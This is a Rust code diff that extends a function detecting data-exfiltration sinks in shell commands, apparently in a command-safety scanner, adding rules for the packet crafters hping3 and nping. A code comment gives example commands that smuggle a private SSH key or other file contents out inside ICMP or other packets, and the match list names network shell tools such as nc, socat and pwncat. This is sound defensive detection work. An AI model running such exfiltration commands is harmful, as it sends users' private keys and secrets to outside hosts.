@@ -913,6 +913,20 @@ fn sink_args(cmd: &Command) -> Option<SinkArgs<'_>> {
             }
             Some(s)
         }
+        // Packet crafters that put a file or a string into the packets they send (ICMP too):
+        // `hping3 -1 -E ~/.ssh/id_rsa -d 1400 HOST`, `nping --data-string "$(cat …)" HOST`.
+        "hping3" | "hping" | "nping" => {
+            for w in args.windows(2) {
+                match w[0].text.as_str() {
+                    "-E" | "--file" => s.files.push(w[1].text.clone()),
+                    "--data-string" | "--data" => s.payload.push(&w[1]),
+                    _ => {}
+                }
+            }
+            s.payload
+                .extend(args.iter().filter(|a| a.text.starts_with("--data-string=")));
+            Some(s)
+        }
         "nc" | "ncat" | "netcat" | "telnet" | "socat" | "cryptcat" | "pwncat" | "pwncat-cs" => {
             // `nc localhost 6379 <<< "AUTH $REDIS_PASSWORD"`: a local service.
             if name != "socat" && raw_socket_host(cmd).is_some_and(|h| is_loopback(&h.text)) {
